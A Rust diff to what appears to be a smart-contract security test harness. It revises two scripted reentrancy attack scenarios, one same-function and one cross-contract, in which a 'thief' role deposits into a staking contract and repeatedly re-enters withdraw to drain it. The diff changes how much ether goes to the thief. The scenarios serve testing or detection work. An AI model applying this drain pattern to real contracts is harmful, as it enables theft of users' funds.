@@ -42,12 +42,13 @@ pub(super) fn same_function(stage: &mut Stage) -> Scene {
     Scene::new(&[pot.staking, pot.shares], move |role| {
         let amount = whole(90);
         let withdraw = || Act::new(pot.staking, &ZooEtherStaking::withdrawCall { amount });
+        let again = 16_u64.checked_div(role.pieces).unwrap_or(1);
         let mut plan = Plan::new(vec![
             Act::new(pot.staking, &ZooEtherStaking::depositCall {}).paying(amount),
             withdraw(),
-            Act::ether(role.thief, U256::MAX),
+            Act::ether(role.thief, amount.saturating_mul(U256::from(again))),
         ]);
-        for _ in 0..16_u64.checked_div(role.pieces).unwrap_or(1) {
+        for _ in 0..again {
             plan = plan.answering(vec![withdraw()]);
         }
         vec![Step::Contract(plan)]
@@ -70,7 +71,7 @@ pub(super) fn cross_contract(stage: &mut Stage) -> Scene {
         let acts = vec![
             Act::new(pot.staking, &ZooEtherStaking::depositCall {}).paying(amount),
             Act::new(pot.staking, &withdraw),
-            Act::ether(role.thief, U256::MAX),
+            Act::ether(role.thief, amount),
         ];
         let handed_on = vec![Act::transfer(pot.shares, role.thief, amount)];
         vec![Step::Contract(Plan::new(acts).answering(handed_on)), Step::by(role.thief, pot.staking, &withdraw)]
